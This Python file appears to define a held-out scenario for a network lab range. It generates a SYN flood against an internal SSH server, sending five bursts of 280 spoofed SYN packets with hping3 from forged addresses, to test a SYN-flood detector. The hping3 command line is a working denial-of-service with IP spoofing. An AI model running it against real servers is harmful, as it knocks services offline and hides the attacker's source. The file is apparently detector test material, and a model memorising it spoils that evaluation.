"""Bursts of SYNs with pauses between them, each burst in the name of another forged address."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, server = net.outside("attacker"), net.inside("files")
    servers.shell(server)
    net.everyday()
    net.loop(net.inside("pc2"), f"ssh-keyscan -T 2 {server.ip}", 1.5)
    with net.attack(
        "syn-flood",
        by=attacker,
        victims=[server],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"tcp and dst host {server.ip} and dst port 22",
        responses=f"tcp and src host {server.ip} and src port 22 and tcp[tcpflags] & tcp-syn != 0",
    ):
        for number in (17, 34, 51, 68, 85):
            net.tool(attacker, *f"hping3 -q -S -a 203.0.113.{number} -p 22 -i u800 -c 280".split(), server.ip)
            net.quiet(4)
    net.quiet(3)


SCENARIO = Scenario(
    name="syn-flood-held-pulses",
    about="hping3 sends an SSH server five bursts of 280 SYNs, each from one forged address, with pauses.",
    detectors=("syn-flood",),
    tools={"hping3": "hping3", "ssh-keyscan": "openssh-client"},
    held_out=True,
    run=run,
)
